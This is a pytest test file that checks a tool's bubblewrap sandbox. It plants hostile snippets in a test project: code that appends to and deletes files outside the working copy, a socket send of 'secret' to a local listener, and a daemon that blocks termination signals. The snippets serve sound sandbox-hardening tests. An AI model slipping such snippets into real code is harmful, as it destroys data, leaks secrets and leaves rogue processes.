"""Hostile code under `pytest --aiap-fix --aiap-sandbox=bwrap`: the project's modules and tests
attack the machine while aiap reproduces and validates; nothing outside aiap's copies changes,
nothing reaches the network, nothing they start is left running.

Without a working bubblewrap these tests skip, unless AIAP_TEST_REQUIRE_SANDBOX is set (CI
installs bubblewrap and sets it): then they fail.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from aiap import sandbox
from tests.plugin_project import run, user_files, user_pytester

BUGGY = "def double(x):\n    return x + x + 1\n"
TEST = "from mod import double\n\n\ndef test_double():\n    assert double(2) == 4\n"


@pytest.fixture(autouse=True)
def bwrap_works() -> None:
    try:
        assert sandbox.resolve("bwrap") == "bwrap"
    except sandbox.SandboxUnavailable as e:
        if os.environ.get("AIAP_TEST_REQUIRE_SANDBOX"):
            pytest.fail(str(e))
        pytest.skip(str(e))


@pytest.fixture
def project(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> pytest.Pytester:
    return user_pytester(pytester, monkeypatch)


def _repaired(project: pytest.Pytester) -> pytest.RunResult:
    result = run(project, "--aiap-fix", "--aiap-sandbox=bwrap", "--aiap-budget=60")
    result.stdout.fnmatch_lines(["aiap: patch 1: mod.py*"])
    return result


def test_imports_that_write_outside_the_copy_change_nothing_outside_it(
    project: pytest.Pytester, tmp_path: Path
) -> None:
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = Path(os.environ["HOME"])  # the runs' HOME (pytester makes it its own directory)
    # Only in aiap's runs (AIAP_CHILD): the user's own run is theirs to allow.
    attack = (
        "import os, pathlib, shutil\n"
        f"DECOY = pathlib.Path({str(decoy)!r})\n"
        "if os.environ.get('AIAP_CHILD'):\n"
        "    for target in (DECOY / 'kept.txt', DECOY / 'new.txt',\n"
        "                   pathlib.Path(os.path.expanduser('~/.aiap-hostile'))):\n"
        "        try:\n"
        "            with open(target, 'a') as f:\n"
        "                f.write('written by the project under test\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    shutil.rmtree(DECOY, ignore_errors=True)\n"
    )
    project.makepyfile(mod=attack + BUGGY, test_mod=TEST)
    before = user_files(project.path)
    _repaired(project)
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert (decoy / "kept.txt").read_text() == "kept\n"
    assert not (home / ".aiap-hostile").exists()
    assert user_files(project.path) == before


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what it is sent: its port, and what it got."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                received.append(conn.recv(1024))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        server.close()


def test_a_test_that_sends_data_out_reaches_no_network(
    project: pytest.Pytester, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    leak = (
        "import os, socket\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'secret')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    project.makepyfile(mod=BUGGY, test_mod=leak + TEST)
    _repaired(project)
    assert received == []


def _processes_running(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry.name))
    return found


def test_a_detached_daemon_a_fixture_starts_is_gone_when_aiap_returns(
    project: pytest.Pytester,
) -> None:
    # A command line no other process has. The daemon blocks SIGTERM and SIGINT and leaves the
    # session, as a daemon does: only a PID namespace or a subreaper ends it.
    marker = f"3107.{random.randrange(10**6):06d}"
    daemon = (
        "import os, signal, subprocess, sys\n"
        "import pytest\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def daemon():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        f"        subprocess.Popen(['sleep', '{marker}'], start_new_session=True,\n"
        "            preexec_fn=lambda: signal.pthread_sigmask(\n"
        "                signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT}))\n"
        "    yield\n"
    )
    project.makeconftest(daemon)
    project.makepyfile(mod=BUGGY, test_mod=TEST)
    try:
        _repaired(project)
        deadline = time.monotonic() + 10
        while _processes_running(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _processes_running(marker) == []
    finally:
        for pid in _processes_running(marker):  # what a failure left: not the next test's
            os.kill(pid, signal.SIGKILL)
